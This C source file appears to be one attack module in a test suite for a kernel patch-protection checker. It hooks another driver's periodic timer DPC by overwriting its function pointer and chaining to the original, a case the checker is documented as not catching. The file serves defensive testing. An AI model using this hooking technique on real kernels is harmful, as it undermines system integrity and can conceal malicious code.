/* attack_a20 (A20): overwrite a writable function pointer the checker does
 * not enrol. Finds another driver's periodic 10 ms timer (ticktest's, in
 * the kernel's timer queue; its DPC routine lies in that driver, not in the
 * kernel) and replaces the DPC's routine with one of its own that does its
 * work and then chains to the original, so everything keeps running.
 * Expected by design: no bug check (a same-privilege checker cannot enrol
 * every writable pointer of every driver; PatchGuard protects its own
 * DPCs and the kernel's housekeeping DPC, A29 and A30). */
#include "attack.h"

#define PROBE_DELAY_NS (3600ull * 1000000000ull)
#define REPORT_AFTER 3

static struct ktimer probe;
static struct dpc probe_dpc;
static void probe_fn(struct dpc *d, void *ctx) {}
static dpc_fn original;
static uint64_t runs;

static void hooked(struct dpc *d, void *ctx)
{
	if (++runs == REPORT_AFTER)
		printk("~ attack_a20: the hooked driver DPC ran %d times\n", REPORT_AFTER);
	original(d, ctx);
}

status_t driver_entry(struct driver_object *drv)
{
	dpc_init(&probe_dpc, probe_fn, NULL);
	timer_init(&probe, &probe_dpc);
	timer_set(&probe, PROBE_DELAY_NS, 0);
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	struct ktimer **head = a_find_timer_queue(&probe);
	struct ktimer *victim = NULL;
	for (struct ktimer *t = head ? *head : NULL; t && !victim; t = t->next)
		if (t != &probe && t->period == 1 && a_ptr_ok((uint64_t)t->dpc, sizeof *t->dpc) &&
		    !a_in_kernel_text((uint64_t)t->dpc->fn))
			victim = t;
	if (victim) {
		original = victim->dpc->fn;
		victim->dpc->fn = hooked;
	}
	timer_cancel(&probe);
	if (!victim) {
		printk("attack_a20: no driver's periodic timer found\n");
		a_restore(pf);
		return KPP_STATUS_UNSUCCESSFUL;
	}
	printk("attack_a20: another driver's DPC routine hooked (chained)\n");
	a_patched("attack_a20");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
